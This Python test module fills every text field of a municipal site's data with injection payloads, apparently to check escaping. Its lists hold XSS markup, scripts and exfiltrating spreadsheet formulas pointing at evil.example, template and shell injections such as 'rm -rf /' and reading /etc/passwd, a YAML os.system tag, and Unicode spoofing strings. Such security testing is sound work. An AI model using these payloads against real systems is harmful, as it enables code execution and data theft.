"""What an attacker would write into the data, and a ward whose every text is that: each payload in every field.

Record number n of every kind holds payload n in all its texts, so one build tries every payload in every field. Fields
are found in the schema: a text field that is added tomorrow is attacked tomorrow.
"""

from __future__ import annotations

import json
import types
import typing
from typing import Annotated, Any

import problem_cases
from pictures import picture
from pydantic import BaseModel, TypeAdapter, ValidationError

from hub.album import Album
from hub.municipalities import PREFECTURES, Gazetteer
from hub.schema import content, events, partners
from hub.schema.values import Line, Text

CALL = "window.pwned=1"
_MARKUP = f"""
<script>{CALL}</script>
<SCRIPT SRC=https://evil.example/a.js></SCRIPT>
</script><script>{CALL}</script>
</title><script>{CALL}</script>
</textarea><script>{CALL}</script>
</style><script>{CALL}</script>
</noscript><script>{CALL}</script>
</template><script>{CALL}</script>
<scr<script>ipt>{CALL}</scr</script>ipt>
<script type=module>{CALL}</script>
<script type="application/ld+json">{{"a":1}}</script>
<img src=x onerror={CALL}>
<img src=x onerror="{CALL}">
<img/src='x'/onerror='{CALL}'>
<IMG SRC=x ONERROR={CALL}>
<img src=x:x onerror=eval(atob('YQ=='))>
<svg onload={CALL}>
<svg><script>{CALL}</script></svg>
<svg><animate onbegin={CALL} attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:{CALL}>
<svg><use href="data:image/svg+xml,<svg onload={CALL}>#x"/></svg>
<svg><foreignObject><body onload={CALL}></foreignObject></svg>
<svg><a xlink:href="javascript:{CALL}"><text>a</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror={CALL}>
<math href="javascript:{CALL}">a</math>
<iframe src="javascript:{CALL}"></iframe>
<iframe srcdoc="<script>{CALL}</script>"></iframe>
<iframe src=https://evil.example/></iframe>
<object data="javascript:{CALL}"></object>
<embed src="javascript:{CALL}">
<form action="javascript:{CALL}"><button>押す</button></form>
<button formaction="javascript:{CALL}">押す</button>
<input autofocus onfocus={CALL}>
<details open ontoggle={CALL}>
<body onload={CALL}>
<video><source onerror={CALL}></video>
<audio src=x onerror={CALL}>
<marquee onstart={CALL}>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel=stylesheet href=https://evil.example/a.css>
<style>*{{background:url(https://evil.example/a)}}</style>
<style>@import "https://evil.example/a.css";</style>
<p style="background:url(https://evil.example/a)">
<a href="javascript:{CALL}">押す</a>
<a href="JaVaScRiPt:{CALL}">押す</a>
<a href="data:text/html,<script>{CALL}</script>">押す</a>
<a href="vbscript:{CALL}">押す</a>
<a href="//evil.example/">押す</a>
<a href="https://evil.example/" target=_blank onclick={CALL}>押す</a>
<a href=# ping=https://evil.example/>押す</a>
<!-- <script>{CALL}</script> -->
<!--><script>{CALL}</script>
<![CDATA[<script>{CALL}</script>]]>
<?xml version="1.0"?><script>{CALL}</script>
<!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;
<div id=main><h1>別の見出し</h1></div>
<h1>別の見出し</h1></main></body></html>
<hub-map data-live></hub-map>
<table><tr><td>表
<x onclick={CALL} tabindex=1 autofocus>
<dialog open>別の画面</dialog>
<slot name=a></slot><template shadowrootmode=open><script>{CALL}</script></template>
"""
_ATTRIBUTES = f"""
"
'
">
'>
"><script>{CALL}</script>
'><script>{CALL}</script>
" onmouseover="{CALL}
' onmouseover='{CALL}
" autofocus onfocus={CALL} x="
" style="background:url(https://evil.example/)
" href="javascript:{CALL}
` onmouseover=`{CALL}
\\" onerror=\\"{CALL}
&quot; onmouseover=&quot;{CALL}
&#34;><script>{CALL}</script>
&lt;script&gt;{CALL}&lt;/script&gt;
&amp;lt;script&amp;gt;
&#x3c;script&#x3e;{CALL}
%3Cscript%3E{CALL}%3C/script%3E
" src="/evil" data-x="
=" href="/evil"
"""
_ADDRESSES = f"""
javascript:{CALL}
JAVASCRIPT:{CALL}
data:text/html;base64,PHNjcmlwdD4=
https://evil.example/"onmouseover="{CALL}
https://evil.example/<script>{CALL}</script>
https://evil.example/?a=1&b=2#c
https://user:pass@evil.example/
https://evil.example\\@www.city.minato.tokyo.jp/
//evil.example/
/../../../etc/passwd
../../index.html
file:///etc/passwd
C:\\Windows\\win.ini
webcal://evil.example/a.ics
mailto:a@evil.example?bcc=b@evil.example
"""
_SCRIPTS = f"""
</script>{{"a":1}}
\\u003cscript\\u003e{CALL}
"}};{CALL};//
');{CALL};//
${{{CALL}}}
`${{{CALL}}}`
\\");{CALL};//
*/{CALL}/*
//{CALL}
__proto__
constructor
toString
hasOwnProperty
null
undefined
NaN
true
"""
_TEMPLATES = """
{{7*7}}
{{ config.items() }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% import os %}{{ os.popen('id') }}
{% raw %}
{# 見えない #}
{{ super() }}
${7*7}
#{7*7}
<%= 7*7 %>
%(name)s
{0.__class__}
{name}
%s%s%s%n
$(id)
`id`
; rm -rf /
| cat /etc/passwd
' OR '1'='1
"""
_MARKDOWN = f"""
[押す](javascript:{CALL})
[押す](JaVaScRiPt:{CALL})
[押す](data:text/html,<script>{CALL}</script>)
[押す](https://evil.example/ "題 onmouseover={CALL}")
![絵](x" onerror="{CALL})
![絵](https://evil.example/a.png)
<javascript:{CALL}>
[押す][a]
[a]: javascript:{CALL}
**太字** _斜め_ `code`
# 見出し
> 引用
- 一覧
1. 番号
***
```script
<b onclick={CALL}>太字</b>
"""
_TABLES = """
=1+1
=cmd|' /C calc'!A0
=HYPERLINK("https://evil.example/?a="&A1,"押す")
=IMPORTXML("https://evil.example/","//a")
+1+1
-1+1
@SUM(1+1)
|=1+1
'=1+1
";=1+1
a,b,"c
a;b;c
＝1+1
＠SUM(1)
"""
_CALENDARS = r"""
a\nATTACH:https://evil.example/
a\r\nBEGIN:VEVENT
a;b,c:d\e
;VALUE=URI:https://evil.example/
END:VEVENT
BEGIN:VALARM
BEGIN:VCALENDAR
ORGANIZER:mailto:a@evil.example
X-ALT-DESC;FMTTYPE=text/html:<script>
"""
_YAML = """
!!python/object/apply:os.system ["id"]
!!binary aGVsbG8=
&a [*a]
*a
<<: *a
- a: b
{a: b}
? a
%YAML 1.2
--- a
"""
_LETTERS = (
    "い\u0301わ\u0308き\u20dd市",
    "いわき市\u3000\u3000",
    "ｉｗａｋｉ",
    "Ιwaki (Greek Iota)",
    "іwaki (Cyrillic i)",
    "いわき巿",
    "〱〲",
    "㍻㌔㈱①Ⅳ",
    "👨\u200d👩\u200d👧\u200d👦",
    "🇯🇵🏳️\u200d🌈",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L",
    "ا" + "ل" * 20,
    "א" * 20,
    "あ" * 199,
    "W" * 199,
    "﷽" * 20,
    "𠮷野家\U0002a6a5",
)
_REFUSED = (
    "い\u202eわき",
    "い\u202dわき",
    "い\u2066わき\u2069",
    "い\u200bわき",
    "い\u200eわき",
    "い\ufeffわき",
    "い\u2028わき",
    "い\u2029わき",
    "い\x00わき",
    "い\x08わき",
    "い\x1bわき",
    "い\x7fわき",
    "い\x85わき",
    "い\ud800わき",
    "い\ue000わき",
    "い\uffffわき",
    "い\U000e0041わき",
)
_LINES = (
    "a\nb",
    "一\n\n二\n\n三",
    "a\n=1+1",
    "a\n</p><script>" + CALL + "</script>",
    "a\tb",
)

_BLOCKS = (_MARKUP, _ATTRIBUTES, _ADDRESSES, _SCRIPTS, _TEMPLATES, _MARKDOWN, _TABLES, _CALENDARS, _YAML)
ONE_LINE = tuple(dict.fromkeys([line for block in _BLOCKS for line in block.strip().split("\n")] + list(_LETTERS)))
PAYLOADS = (*ONE_LINE, *_LINES)  # all of which may stand in the data
REFUSED = (*_REFUSED, "a\r\nATTACH:https://evil.example/")

# Texts that must agree with a table or with another field, and so cannot be written at will.
FIXED = {("Municipality", "name"), ("Prefecture", "name"), ("Occurrence", "weekday")}
COMPANIES_ONLY = {"conduct"}
PHOTO = "a.jpg"
# What a record cannot do without, by its class; everything else that is text is found in the schema.
BASES: dict[str, dict[str, Any]] = {
    "Photo": {"file": PHOTO, "consent": "given"},
    "Conduct": {"pattern": "other"},
    "Tie": {"kind": "exchange", "source": "press"},
    "Framework": {"kind": "agreement", "source": "press"},
    "Figures": {"count": "3", "as_of": "2024-06-01", "source": "press"},
    "Figure": {"value": "3", "as_of": "2024-06-01", "source": "press"},
    "Words": {"source": "press"},
    "Association": {"kana": "みほん", "source": "press"},
    "Abroad": {"kana": "みほん", "latitude": "45.7", "longitude": "4.8", "source": "press"},
    "Organisation": {"kana": "みほん", "source": "press"},
    "Municipality": {"source": "press"},
    "Prefecture": {"source": "press"},
    "Agreement": {"signed_on": "2024-04-01", "source": "press"},
    "Event": {"category": "fair", "status": "scheduled", "source": "press"},
    "Occurrence": {"starts_on": "2026-12-06", "opens": "10:00"},
    "Venue": {"latitude": "35.66", "longitude": "139.75"},
    "Initiative": {"theme": "goods", "source": "press"},
    "District": {"source": "press"},
    "About": {"source": "press"},
    "Issue": {"source": "press"},
    "Cover": {"source": "press"},
    "Listing": {"source": "press"},
}


_ADAPTERS: dict[bool, TypeAdapter[str]] = {True: TypeAdapter(Line), False: TypeAdapter(Text)}


def accepted(kind: Any, text: str) -> bool:
    """Whether a text of that kind may stand in the data."""
    try:
        _ADAPTERS[kind == Line].validate_python(text)
    except ValidationError:
        return False
    return True


def attacked(model: type[BaseModel], text: str, **more: Any) -> dict[str, Any]:
    """A record of which every text, and every text of the records within it, is `text`."""
    found = dict(BASES.get(model.__name__, {}))
    for name, hint in typing.get_type_hints(model, include_extras=True).items():
        if name in found or name in COMPANIES_ONLY or (model.__name__, name) in FIXED or name not in model.model_fields:
            continue
        value = _value(hint, text)
        if value is not None:
            found[name] = value
    return {**found, **more}


def _value(hint: Any, text: str) -> Any:
    """`text` where the hint asks for text, records where it asks for records, else None."""
    if hint in (Line, Text):
        return text if accepted(hint, text) else "見本"
    if typing.get_origin(hint) in (typing.Union, types.UnionType):
        return next((found for one in typing.get_args(hint) if (found := _value(one, text)) is not None), None)
    if typing.get_origin(hint) is tuple:
        inner = _value(typing.get_args(hint)[0], text)
        return [inner] if inner is not None else None
    if typing.get_origin(hint) is Annotated:
        return None
    return attacked(hint, text) if isinstance(hint, type) and issubclass(hint, BaseModel) else None


def album() -> Album:
    """The one photograph that every record of the ward shows."""
    return Album((PHOTO,), lambda _: picture())


def ward(texts: tuple[str, ...]) -> dict[str, bytes]:
    """The files of a ward whose record n of every kind says `texts[n]` in every field."""
    files = problem_cases.files("sound")
    towns = [place for place in Gazetteer.load().places if place.code[:2] != "13"][: len(texts)]
    prefectures = [(code, found.name) for code, found in PREFECTURES.items() if code != "13"]
    data: dict[str, list[Any]] = {
        name: [] for name in (*partners.PartnersFile.model_fields, *events.EventsFile.model_fields)
    }
    data["documents"].append({"id": "press", "title": "区の発表", "publisher": "見本区"})
    for number, text in enumerate(texts):
        town = towns[number]
        data["documents"].append(attacked(partners.Document, text, id=f"d-{number}"))
        data["frameworks"].append(attacked(partners.Framework, text, id=f"f-{number}"))
        agreement = {"id": f"g-{number}", "framework": f"f-{number}", "parties": [town.code]}
        data["agreements"].append(attacked(partners.Agreement, text, **agreement))
        data["municipalities"].append(attacked(partners.Municipality, text, code=town.code, name=town.name))
        data["associations"].append(
            attacked(partners.Association, text, id=f"a-{number}", members=[towns[number - 1].code, town.code])
        )
        data["abroad"].append(attacked(partners.Abroad, text, id=f"b-{number}"))
        data["organisations"].append(_company(number, text))
        data["moved"].append(attacked(partners.Moved, text, address=f"/events/old-{number}/"))
        data["series"].append(attacked(events.Series, text, id=f"s-{number}"))
        data["events"].append(
            attacked(events.Event, text, id=f"e-{number}", series=f"s-{number}", participants=[town.code])
        )
        files |= _pages(number, text, town.code)
    for (code, name), text in zip(prefectures, texts, strict=False):
        data["prefectures"].append(attacked(partners.Prefecture, text, code=code, name=name))
    for path, model in (("partners.yaml", partners.PartnersFile), ("events.yaml", events.EventsFile)):
        files[path] = json.dumps({name: data[name] for name in model.model_fields}, ensure_ascii=False).encode(
            "utf-8", "surrogatepass"
        )
    return files


def _company(number: int, text: str) -> dict[str, Any]:
    """A company, of whose ties alone staff say how they are run."""
    found = attacked(partners.Organisation, text, id=f"c-{number}", kind="company")
    found["ties"] = [{**tie, "conduct": attacked(partners.Conduct, text)} for tie in found["ties"]]
    return found


def _pages(number: int, text: str, code: str) -> dict[str, bytes]:
    """What is written in Markdown: heads and bodies."""
    return {
        f"content/initiatives/i-{number}.md": page(content.Initiative, text),
        f"content/magazine/{number + 1}.md": page(content.Issue, text, partners=[code]),
        f"content/about/p-{number}.md": page(content.About, text),
        f"content/partners/{code}.md": text.encode(),
    }


def page(model: type[BaseModel], text: str, **more: Any) -> bytes:
    """A file of `content/` whose head and body are `text`; JSON is YAML."""
    head = json.dumps(attacked(model, text, **more), ensure_ascii=False)
    return f"---\n{head}\n---\n\n{text}\n".encode("utf-8", "surrogatepass")
